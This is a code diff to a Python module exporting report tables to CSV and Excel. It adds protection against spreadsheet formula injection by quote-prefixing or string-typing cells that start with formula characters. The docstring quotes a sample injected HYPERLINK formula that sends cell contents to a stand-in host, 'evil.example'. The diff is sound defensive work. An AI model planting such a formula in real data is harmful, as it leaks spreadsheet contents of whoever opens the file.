@@ -1,6 +1,13 @@
 """Export of report tables: CSV (UTF-8 with a byte-order mark, so that Excel reads Vietnamese
 right) and Excel (openpyxl; one sheet per table, a title naming the center and the period).
-Minutes and rates are numbers, not text, so a spreadsheet can compute with them."""
+Minutes and rates are numbers, not text, so a spreadsheet can compute with them.
+
+Text that a spreadsheet would read as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a
+carriage return: OWASP's list) is neutralised, since names come from people: an officer named
+`=HYPERLINK("http://evil.example/?leak="&A1, ...)` must not become a live formula. In CSV it is
+prefixed with a single quote; in Excel it is stored as a string (never a formula) with the
+quote-prefix style, so that editing the cell does not turn it into one either. Numbers stay
+numbers."""
 
 from __future__ import annotations
 
@@ -14,19 +21,41 @@ from openpyxl.utils import get_column_letter
 from .tables import Table, cell, value
 
 FORMATS = {"int": "#,##0", "pct": "0.0", "min": "0.0", "score": "0.00"}
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_like(v) -> bool:
+    """Text that a spreadsheet would evaluate rather than show."""
+    return isinstance(v, str) and v.startswith(FORMULA_START)
+
+
+def _csv_text(v):
+    return "'" + v if formula_like(v) else v
+
+
+def _append(ws, values: list) -> None:
+    """A row appended to a sheet, its formula-like text cells stored as plain strings."""
+    ws.append(values)
+    r = ws.max_row
+    for i, v in enumerate(values, start=1):
+        if formula_like(v):
+            c = ws.cell(row=r, column=i)
+            c.value = v
+            c.data_type = "s"  # openpyxl made it a formula ("f")
+            c.quotePrefix = True
 
 
 def csv_bytes(table: Table, lang: str = "vi") -> bytes:
     """One table as CSV: a header row, then the rows."""
     buf = io.StringIO()
     writer = csv.writer(buf, lineterminator="\r\n")
-    writer.writerow([c.header(lang) for c in table.columns])
+    writer.writerow([_csv_text(c.header(lang)) for c in table.columns])
     for row in table.rows:
         out = []
         for col in table.columns:
             raw, kind = value(row, col, lang)
             v = cell(raw, kind)
-            out.append("" if v is None else v)
+            out.append("" if v is None else _csv_text(v))
         writer.writerow(out)
     return ("\ufeff" + buf.getvalue()).encode("utf-8")
 
@@ -35,10 +64,10 @@ def _sheet(wb: Workbook, table: Table, heading: list[str], lang: str, first: boo
     ws = wb.active if first else wb.create_sheet()
     ws.title = table.name[:31]
     for line in heading:
-        ws.append([line])
-    ws.append([table.title(lang)])
+        _append(ws, [line])
+    _append(ws, [table.title(lang)])
     ws.cell(row=ws.max_row, column=1).font = Font(bold=True, size=12)
-    ws.append([c.header(lang) for c in table.columns])
+    _append(ws, [c.header(lang) for c in table.columns])
     header_row = ws.max_row
     fill = PatternFill("solid", fgColor="DCE6F2")
     for i, _col in enumerate(table.columns, start=1):
@@ -52,7 +81,7 @@ def _sheet(wb: Workbook, table: Table, heading: list[str], lang: str, first: boo
             raw, kind = value(row, col, lang)
             values.append(cell(raw, kind))
             kinds.append(kind)
-        ws.append(values)
+        _append(ws, values)
         r = ws.max_row
         for i, kind in enumerate(kinds, start=1):
             if kind in FORMATS:
